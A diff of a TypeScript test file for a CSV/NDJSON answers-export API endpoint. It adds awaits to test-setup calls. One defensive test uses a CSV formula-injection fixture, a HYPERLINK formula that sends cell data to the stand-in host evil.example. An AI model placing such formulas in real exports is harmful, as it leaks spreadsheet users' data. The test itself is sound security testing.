@@ -62,7 +62,7 @@ const exportOf = (ws: TestWorkspace, query: Record<string, string>) => getWith(s
 
 describe('GET /api/v1/visibility/exports/answers', () => {
   it('when CSV is asked for, serves an attachment whose rows parse back to the answers list', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     await seedAnswers(server, ws);
     const res = await exportOf(ws, { range: '30d', format: 'csv' });
     expect(res.status).toBe(200);
@@ -77,14 +77,14 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when format is omitted, serves CSV', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     await seedAnswers(server, ws);
     const res = await exportOf(ws, {});
     expect([res.status, res.headers.get('content-disposition')]).toEqual([200, 'attachment; filename="answers-30d-2026-11-22.csv"']);
   });
 
   it('when NDJSON is asked for, serves one line per answer, each exactly the list\'s answer', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     await seedAnswers(server, ws);
     const res = await exportOf(ws, { range: '7d', format: 'ndjson', mentioned: 'true' });
     expect(res.headers.get('content-type')).toBe('application/x-ndjson');
@@ -97,7 +97,7 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when filters are given, exports the answers the list shows for them', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     const s = await seedAnswers(server, ws);
     const queries: Array<Record<string, string>> = [{ prompt: s.p1.id }, { platform: 'perplexity' }, { cited: 'false' }, { prompt: s.p2.id, mentioned: 'true' }];
     for (const query of queries) {
@@ -107,14 +107,14 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when nothing matches, serves the header row only (CSV) or an empty file (NDJSON)', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     expect((await exportOf(ws, { format: 'csv' })).text).toBe('id,collected_at,prompt_id,prompt_text,platform,mentioned,cited,competitors,citation_urls,text\r\n');
     expect((await exportOf(ws, { format: 'ndjson' })).text).toBe('');
   });
 
   it('when another workspace has answers, exports none of them', async () => {
-    const ws = createTestWorkspace(server.store);
-    const other = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
+    const other = await createTestWorkspace(server.store);
     const mine = await seedAnswers(server, ws);
     await seedAnswers(server, other);
     const res = await exportOf(ws, { range: '90d', format: 'ndjson' });
@@ -123,7 +123,7 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when a parameter is invalid, answers a JSON 422 envelope instead of a file', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     const queries: Array<Record<string, string>> = [{ format: 'xlsx' }, { range: '1y' }, { cursor: 'abc' }];
     for (const query of queries) {
       const res = await exportOf(ws, query);
@@ -132,7 +132,7 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when texts start like spreadsheet formulas, prefixes those CSV cells with a quote and leaves NDJSON exact', async () => {
-    const ws = createTestWorkspace(server.store);
+    const ws = await createTestWorkspace(server.store);
     const prompt = promptLine({ text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' });
     const hostile: Array<{ competitor: string | null; answer: string }> = [
       { competitor: '=Evil Corp', answer: '+SUM(1,2)' },
@@ -172,8 +172,8 @@ describe('GET /api/v1/visibility/exports/answers', () => {
   });
 
   it('when the key lacks visibility:read, answers a JSON 403 envelope', async () => {
-    const ws = createTestWorkspace(server.store);
-    const key = createTestKey(server.store, ws, { scopes: ['workspace:read'] });
+    const ws = await createTestWorkspace(server.store);
+    const key = await createTestKey(server.store, ws, { scopes: ['workspace:read'] });
     const res = await getWith(server, { ...ws, key: key.key }, '/api/v1/visibility/exports/answers', {});
     expect([res.status, (res.body as { code: number }).code]).toEqual([403, 4023]);
   });
